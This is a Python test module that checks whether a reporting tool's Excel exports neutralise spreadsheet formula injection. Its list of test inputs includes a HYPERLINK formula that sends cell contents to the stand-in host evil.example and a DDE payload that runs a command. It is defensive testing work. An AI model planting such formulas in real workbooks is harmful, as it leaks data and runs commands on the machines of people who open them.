"""Spreadsheet formula injection: text that starts with = + - @ is written as text in every
workbook riskpool writes (the report's XLSX and ``--out x.xlsx`` of the table commands).

Independent check: openpyxl reads each cell back; a live formula has ``data_type == "f"``, a
text cell ``"s"`` with the exact string."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dashboards.reports import Section, write_xlsx
from riskpool.commands.output import write_tables

pytestmark = pytest.mark.adversarial("paths")

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "http://evil.example/",
    "1e5",
]


def _cells(path: Path) -> list[tuple[object, str]]:
    book = openpyxl.load_workbook(path)
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows()
            for c in row if c.value is not None]


@pytest.mark.parametrize("text", NASTY)
def test_report_workbook_keeps_text(tmp_path: Path, text: str) -> None:
    frame = pd.DataFrame({"region": [text, "浙江"], "balance": [1.5, 2.0]})
    out = tmp_path / "r.xlsx"
    write_xlsx([Section("book", "Book", {"by_region": frame})], out, dt.date(2026, 6, 30),
               "2026-07-01T00:00:00")
    cells = _cells(out)
    assert (text, "s") in cells
    assert not [c for c in cells if c[1] == "f"]


@pytest.mark.parametrize("text", NASTY)
def test_table_export_keeps_text(tmp_path: Path, text: str) -> None:
    frame = pd.DataFrame({"region": [text], "balance": [1.5]})
    out = tmp_path / "summary.xlsx"
    assert write_tables({"by_region": frame}, out) == [out]
    cells = _cells(out)
    assert (text, "s") in cells
    assert not [c for c in cells if c[1] == "f"]
    assert (1.5, "n") in cells
